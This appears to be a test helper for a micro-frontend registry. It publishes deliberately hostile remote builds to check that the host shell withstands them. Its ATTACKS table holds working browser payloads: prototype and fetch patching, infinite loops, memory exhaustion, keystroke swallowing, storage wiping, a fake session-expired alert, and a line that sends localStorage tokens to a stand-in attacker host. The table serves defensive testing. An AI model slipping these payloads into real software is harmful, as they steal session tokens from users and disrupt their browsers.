import {
  API,
  API_BASE,
  type RemoteArtefact,
  type RemotesAnswer,
  type ResolvedRemote,
} from '@taskloom/contracts';
import { createDeployToken } from '../../tools/run/prepare/api.mjs';
import { base } from '../commands/api.js';
import { publishFiles } from '../commands/publish.js';
import { sumOf } from './stamped-build.js';

export const ATTACKER = 'https://attacker.example';

/** The attacks of a hostile remote, which run as soon as its entry script does. */
export const ATTACKS = {
  'global-css': `document.head.append(Object.assign(document.createElement('style'), { textContent: '* { color: rgb(255, 0, 0) !important }' }));`,
  'patched-fetch': `window.fetch = () => Promise.reject(new Error('mine'));`,
  'patched-prototypes': `Array.prototype.map = () => [];`,
  timers: `setInterval(() => document.body.append('tick'), 1);`,
  memory: `window.hoard = new Array(20_000_000).fill(0).map((_, index) => ({ index }));`,
  'endless-loop': `for (;;);`,
  'endless-promises': `(function again() { Promise.resolve().then(again); })();`,
  'swallowed-keys': `window.addEventListener('keydown', (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true);`,
  'hijacked-history': `history.pushState = () => {};`,
  'cleared-storage': `localStorage.clear();`,
  dialogs: `alert('Your session has expired.');`,
  exfiltration: `fetch('${ATTACKER}/?' + localStorage.token, { mode: 'no-cors' }).catch(() => {}); new Image().src = '${ATTACKER}/?' + localStorage.token; navigator.sendBeacon('${ATTACKER}', localStorage.token);`,
} as const;

interface Hostile {
  name: string;
  version?: string;
  /** Source of the code that runs with the entry script. */
  attack?: string;
  /** Source of the component of its only screen; `React` is the shell's. */
  screen?: string;
  /** Additional files of the build. */
  files?: Record<string, string>;
}

const entryOf = ({ name, version = '1.0.0', attack = '', screen = `() => 'Screen of ${name}'` }: Hostile) => `
window.hostile = [...(window.hostile ?? []), '${name}'];
${attack}
let React;
const modules = {
  './remote': () => ({ default: { name: '${name}', routes: [{ path: '/${name}', load: async () => ({ default: ${screen} }) }] } }),
};
window.${containerOf(name, version)} = {
  async init({ react }) { React = (await Object.values(react)[0].get())(); },
  async get(path) { return modules[path]; },
};`;

const containerOf = (name: string, version: string): string =>
  `taskloom_${name}_${version}`.replace(/\W/g, '_');

/** Publishes a build with its own deploy token. Returns the entry that the registry would send to everyone. */
export async function publishHostile(hostile: Hostile): Promise<ResolvedRemote> {
  const { name, version = '1.0.0', files = {} } = hostile;
  const manifest = {
    metaData: { remoteEntry: { name: 'remote-entry.js' }, globalName: containerOf(name, version) },
    exposes: [{ path: './remote', assets: { js: { sync: [], async: [] }, css: { sync: [], async: [] } } }],
  };
  const contents = {
    'mf-manifest.json': JSON.stringify(manifest),
    'remote-entry.js': entryOf(hostile),
    ...files,
  };
  const sums = Object.entries(contents).map(([path, text]) => [
    path,
    { integrity: sumOf(text), size: Buffer.byteLength(text) },
  ]);
  const artefact: RemoteArtefact = {
    name,
    title: name,
    version,
    routes: [{ path: `/${name}`, title: name, files: ['mf-manifest.json', 'remote-entry.js'] }],
    navigation: [{ label: name, path: `/${name}`, icon: 'search', order: 1_000 }],
    requires: { contracts: '^1.0.0', client: '^1.0.0', ui: '^1.0.0' },
    files: Object.fromEntries(sums),
  };
  const { token } = await createDeployToken(process.env['TASKLOOM_DATABASE'] ?? '', name, 'hostile');
  await publishFiles(token, artefact, (path) => Buffer.from(contents[path as keyof typeof contents] ?? ''));
  const asked = `${base()}${API_BASE}${API.remotes}?mfe=${name}@${version}`;
  const answer = await fetch(asked, { headers: { authorization: `Deploy ${token}` } });
  const { remotes } = (await answer.json()) as RemotesAnswer;
  const entry = remotes.find((remote) => remote.name === name);
  if (!entry) throw new Error(`The registry does not offer ${name}.`);
  const { audience: _preview, publishedBy: _publisher, ...live } = entry;
  return live;
}
